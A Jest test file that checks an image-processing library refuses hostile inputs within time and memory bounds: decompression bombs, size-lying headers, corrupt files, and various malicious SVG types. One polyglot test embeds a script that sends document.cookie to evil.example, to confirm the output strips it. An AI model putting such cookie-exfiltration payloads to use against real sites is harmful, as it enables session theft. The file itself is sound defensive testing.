// Hostile input: every file is refused with its reason, fast and without a memory spike, never a crash or a hang.
// Time and RSS growth are measured around each call (bounds: 3 s, 300 MB).
import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import sharp from 'sharp';
import { ImageError, inspectImage, processImage, readInput } from '../../src/image/index.js';
import { idleSvgRendererPid, stopIdleSvgRenderer } from '../../src/image/svg-render.js';
import {
  badSvgs, bmp24, bmpLiar, CorpusDir, heicHeader, pdf, pngBomb, pngLiar, svgQuadrants,
} from './corpus.js';
import { expectCleanSquare } from './helpers.js';

const TIME_BOUND_MS = 3000;
const RSS_BOUND = 300 * 1024 * 1024;
const corpus = new CorpusDir();
let baselineRss = 0;

interface Case {
  bytes: Buffer;
  reason: RegExp;
  opts?: { maxInputBytes?: number; timeoutMs?: number; size?: number };
  /** inspectImage renders at 16 px, where a slow SVG is fast: check processImage only */
  processOnly?: boolean;
}
const cases: Record<string, Case> = {};

function jpegWithSize(jpeg: Buffer, w: number, h: number): Buffer {
  const b = Buffer.from(jpeg);
  const sof = b.indexOf(Buffer.from([0xff, 0xc0]));
  b.writeUInt16BE(h, sof + 5);
  b.writeUInt16BE(w, sof + 7);
  return b;
}

/** A filter-heavy SVG that passes the static guard but takes many seconds in librsvg: only the deadline stops it. */
function slowSvg(): string {
  const rects = '<rect width="1024" height="1024" filter="url(#f)" opacity="0.5"/>'.repeat(30);
  return `<svg xmlns="http://www.w3.org/2000/svg" width="1024" height="1024"><filter id="f" x="0" y="0" width="1" height="1">` +
    `<feTurbulence baseFrequency="0.05" numOctaves="8"/><feGaussianBlur stdDeviation="40"/></filter>${rects}</svg>`;
}

beforeAll(async () => {
  const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 50 } } }).jpeg({ quality: 80 }).toBuffer();
  const corrupt = Buffer.from(jpeg);
  corrupt.writeUInt16BE(0xffd9, Math.floor(corrupt.length / 2)); // an EOI marker in the middle of the scan
  const badMarker = Buffer.from(jpeg);
  badMarker[badMarker.indexOf(Buffer.from([0xff, 0xc0])) + 9] = 7;
  const bmpHalf = bmp24().subarray(0, 1000);
  const bmpRle = bmp24();
  bmpRle.writeUInt16LE(8, 28);
  bmpRle.writeUInt32LE(1, 30);
  const manyIcons = Buffer.alloc(6 + 16 * 1000);
  manyIcons.writeUInt16LE(1, 2);
  manyIcons.writeUInt16LE(1000, 4);

  Object.assign(cases, {
    'png-ihdr-liar.png': { bytes: await pngLiar(100_000, 100_000), reason: /^image has too many pixels \(100000×100000 > 50 MP\)$/ },
    'png-bomb-10000.png': { bytes: pngBomb(10_000, 10_000), reason: /^image has too many pixels \(10000×10000 > 50 MP\)$/ },
    'jpeg-sof-liar.jpg': { bytes: jpegWithSize(jpeg, 60_000, 60_000), reason: /^image has too many pixels \(60000×60000 > 50 MP\)$/ },
    'truncated.jpg': { bytes: jpeg.subarray(0, Math.floor(jpeg.length * 0.6)), reason: /^damaged image: .*premature end/i },
    'corrupt.jpg': { bytes: corrupt, reason: /^damaged image: .*corrupt JPEG data/i },
    'bad-marker.jpg': { bytes: badMarker, reason: /^damaged image: .*bogus marker length$/i },
    'html.png': { bytes: Buffer.from('<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>'), reason: /^unsupported image type text\/html$/ },
    'doc.pdf': { bytes: pdf(), reason: /^unsupported image type application\/pdf$/ },
    'photo.heic': { bytes: heicHeader(), reason: /^HEIC is not supported: export it as JPEG$/ },
    'random.bin': { bytes: Buffer.from(Array.from({ length: 65536 }, (_, i) => (i * 7919 + 13) % 251)), reason: /^unsupported image type application\/octet-stream$/ },
    'empty.png': { bytes: Buffer.alloc(0), reason: /^damaged image: empty file$/ },
    'bmp-liar.bmp': { bytes: bmpLiar(), reason: /^image has too many pixels \(15000×15000 > 50 MP\)$/ },
    'bmp-truncated.bmp': { bytes: bmpHalf, reason: /^damaged image: truncated BMP/ },
    'bmp-rle.bmp': { bytes: bmpRle, reason: /^unsupported image type image\/bmp \(RLE-compressed\)$/ },
    'many-icons.ico': { bytes: manyIcons, reason: /^damaged image: ICO with 1000 images/ },
    'too-big.jpg': { bytes: jpeg, reason: /^image too large \(\d+(\.\d)? KiB > 1000 B\)$/, opts: { maxInputBytes: 1000 } },
    'too-big.svg': {
      bytes: Buffer.from(svgQuadrants.replace('<rect', `<!-- ${'x'.repeat(2_200_000)} --><rect`)),
      reason: /^image too large \(2\.1 MiB of SVG > 2 MiB\)$/,
    },
    'slow-filters.svg': { bytes: Buffer.from(slowSvg()), reason: /^image processing took too long \(> 1500 ms\)$/, opts: { timeoutMs: 1500, size: 1024 }, processOnly: true },
  } satisfies Record<string, Case>);
  for (const [name, c] of Object.entries(await badSvgs())) cases[name] = { bytes: Buffer.from(c.svg), reason: c.reason };
  for (const [name, c] of Object.entries(cases)) corpus.write(name, c.bytes);

  // Baseline after sharp and the decoders are loaded and warm, so the bound measures the hostile files only.
  await processImage(await readInput(corpus.write('warm.bmp', bmp24()), process.stdin), { size: 64, format: 'auto' });
  await processImage(Buffer.from(svgQuadrants), { size: 64, format: 'auto' });
  baselineRss = process.memoryUsage().rss;
});
afterAll(() => corpus.cleanup());

const names = (): string[] => Object.keys(cases);

describe('hostile files are refused with their reason, in bounded time and memory', () => {
  // test.each needs the names before beforeAll runs, so they are listed here and checked against the corpus below.
  const listed = [
    'png-ihdr-liar.png', 'png-bomb-10000.png', 'jpeg-sof-liar.jpg', 'truncated.jpg', 'corrupt.jpg', 'bad-marker.jpg', 'html.png',
    'doc.pdf', 'photo.heic', 'random.bin', 'empty.png', 'bmp-liar.bmp', 'bmp-truncated.bmp', 'bmp-rle.bmp', 'many-icons.ico',
    'too-big.jpg', 'too-big.svg', 'slow-filters.svg', 'script.svg', 'prefixed-script.svg', 'external-href.svg', 'xlink-charref.svg',
    'local-file.svg', 'xxe.svg', 'billion-laughs.svg', 'use-bomb.svg', 'use-cycle.svg', 'data-uri-raster-bomb.svg', 'fill-data-uri.svg',
    'css-url.svg', 'css-url-escaped.svg', 'css-import.svg', 'xml-stylesheet.svg', 'foreign-object.svg', 'feimage.svg', 'xinclude.svg',
    'utf7.svg',
  ];
  test('every generated hostile file is listed', () => {
    expect([...listed].sort()).toEqual(names().sort());
  });

  test.each(listed)('%s', async (name) => {
    const c = cases[name] as Case;
    const input = await readInput(`${corpus.dir}/${name}`, process.stdin);
    const inspectOpts = { ...(c.opts?.maxInputBytes ? { maxInputBytes: c.opts.maxInputBytes } : {}) };
    const runs = [() => processImage(input, { size: 256, format: 'auto', ...c.opts })];
    if (!c.processOnly) runs.push(() => inspectImage(input, inspectOpts).then(() => undefined as never));
    for (const run of runs) {
      const t0 = performance.now();
      const e = await run().then(() => undefined, (x: unknown) => x);
      const ms = performance.now() - t0;
      const grew = process.memoryUsage().rss - baselineRss;
      expect(e).toBeInstanceOf(ImageError);
      const err = e as ImageError;
      expect(err.exitCode).toBe(1);
      expect(err.message).toMatch(c.reason);
      expect(err.message).not.toMatch(/\n/);
      expect(ms).toBeLessThan(TIME_BOUND_MS);
      expect(grew).toBeLessThan(RSS_BOUND);
    }
  });

  test('the SVG renderer killed on timeout leaves no process behind (at most the idle renderer, until stopped)', async () => {
    const children = () => execFileSync('ps', ['-o', 'pid=,stat=,comm=', '--ppid', String(process.pid)], { encoding: 'utf8' })
      .split('\n')
      .map((l) => l.trim())
      .filter((l) => l !== '' && !/^\d+\s+Z/.test(l) && !/\sps$/.test(l))
      .map((l) => Number(l.split(/\s+/)[0]));
    await new Promise((r) => setTimeout(r, 200));
    const idle = idleSvgRendererPid();
    expect(children()).toEqual(idle === undefined ? [] : [idle]);
    stopIdleSvgRenderer();
    await new Promise((r) => setTimeout(r, 200));
    expect(children()).toEqual([]);
  });
});

describe('defence in depth', () => {
  test('in this process sharp may only use the allowed loaders (SVG and everything else are blocked)', async () => {
    const { loadSharp } = await import('../../src/image/lazy.js');
    const s = await loadSharp();
    await expect(s(Buffer.from(svgQuadrants)).metadata()).rejects.toThrow(/unsupported image format/);
    // Of the loaders sharp's prebuilt libvips can use on a Buffer (jpeg png webp tiff gif svg heif), only SVG must
    // fail in-process: it is rasterised in the child process.
    await expect(s(await s({ create: { width: 4, height: 4, channels: 3, background: '#000' } }).png().toBuffer()).metadata()).resolves.toMatchObject({ format: 'png' });
  });
});

describe('hostile but legal', () => {
  test('image+HTML polyglot: accepted, and the output carries none of the HTML', async () => {
    const jpeg = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#884422' } }).jpeg().toBuffer();
    const polyglot = Buffer.concat([jpeg, Buffer.from('<html><script>fetch("//evil.example/"+document.cookie)</script></html>')]);
    const out = await processImage(polyglot, { size: 128, format: 'auto' });
    await expectCleanSquare(out, 128, 'jpeg');
    expect(out.data.includes(Buffer.from('<script'))).toBe(false);
    expect(out.data.includes(Buffer.from('evil.example'))).toBe(false);
  });

  test('a 7000×7000 1-bit PNG (49 MP, 6 KB) is processed within the bounds', async () => {
    const input = pngBomb(7000, 7000);
    expect(input.length).toBeLessThan(100_000);
    const t0 = performance.now();
    const out = await processImage(input, { size: 256, format: 'auto' });
    const ms = performance.now() - t0;
    await expectCleanSquare(out, 256, 'jpeg');
    expect(ms).toBeLessThan(TIME_BOUND_MS);
    expect(process.memoryUsage().rss - baselineRss).toBeLessThan(RSS_BOUND);
  });
});
